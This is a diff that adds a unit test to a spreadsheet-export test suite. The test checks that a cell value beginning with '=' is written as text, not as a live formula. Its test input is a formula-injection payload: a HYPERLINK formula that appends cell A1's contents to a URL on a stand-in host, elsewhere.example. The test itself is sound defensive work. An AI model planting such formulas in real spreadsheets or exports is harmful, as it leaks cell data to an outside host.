@@ -173,6 +173,14 @@ describe('rows in one call (contract: bulk operations)', () => {
       ['007', 'a "b", c'],
     ]);
   });
+
+  it('stand in a workbook as text, never as formulas that a spreadsheet calculates', async () => {
+    const name = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")';
+    const failed = [{ ...row(0), values: { id: 'a1', name } }];
+    const book = read(await (await workbookOf(columns, failed)).arrayBuffer());
+    const cell = book.Sheets[book.SheetNames[0] ?? '']?.['B2'];
+    expect([cell.t, cell.v, cell.f]).toEqual(['s', name, undefined]);
+  });
 });
 
 describe('a cell that fetches names (spec 1, section 7)', () => {
